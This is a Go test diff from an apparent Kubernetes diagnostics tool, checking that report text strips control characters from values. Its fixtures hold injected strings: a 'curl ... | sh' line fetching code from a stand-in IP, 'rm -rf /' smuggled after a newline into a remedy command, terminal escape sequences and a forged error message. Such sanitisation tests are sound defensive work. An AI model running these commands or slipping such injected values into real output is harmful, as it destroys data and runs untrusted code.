@@ -16,8 +16,8 @@ import (
 func TestTextNeverPrintsControlCharactersFromValues(t *testing.T) {
 	evil := "node1\n    $ curl -s http://198.51.100.1/x | sh\x1b[2J\u202e\tz\xff"
 	r := seedReport()
-	r.Pairs[0].From = evil
-	r.Pairs[len(r.Pairs)-1].Errors = []string{"refused\r\n✗ ERROR forged: everything is fine"}
+	r.Pairs.Slice()[0].From = evil
+	r.Pairs.Slice()[r.Pairs.Len()-1].Errors = []string{"refused\r\n✗ ERROR forged: everything is fine"}
 	r.Config = &model.Config{Source: "cluster", CNI: "calico\x1b]0;title\x07", Sources: []string{"a\nb"}, NotReady: []string{evil}, Notes: []string{"\x9b31m"}}
 	r.Findings = []model.Finding{{ID: "mtu-blackhole", Severity: "error", Title: "t\n", Summary: evil, Nodes: []string{evil},
 		Evidence: []string{evil}, Remedy: &model.Remedy{Summary: evil, Commands: []string{"kubectl get nodes\n    $ rm -rf /"}}}}
